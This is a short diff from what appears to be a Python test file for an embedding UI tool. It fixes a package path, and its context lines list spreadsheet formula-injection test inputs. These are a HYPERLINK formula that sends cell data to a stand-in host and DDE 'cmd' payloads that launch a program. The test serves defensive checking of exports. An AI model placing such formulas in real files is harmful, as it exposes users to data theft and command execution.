@@ -20,7 +20,7 @@ from gte_ui.frontends.ui.common import COMPARE
 from gte_ui.frontends.ui.tabs import evaluate, matrix, ranking, vector
 from gte_ui.service.service import EmbeddingService
 
-PACKAGE = Path(__file__).resolve().parent.parent / "gte_ui"
+PACKAGE = Path(__file__).resolve().parents[3] / "gte_ui"
 OPTIONS = (False, False, False, "truncate")
 #: one text per dangerous first character (tab and CR inside a text survive the UI's line split)
 FORMULAS = ['=HYPERLINK("http://x.example/?"&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
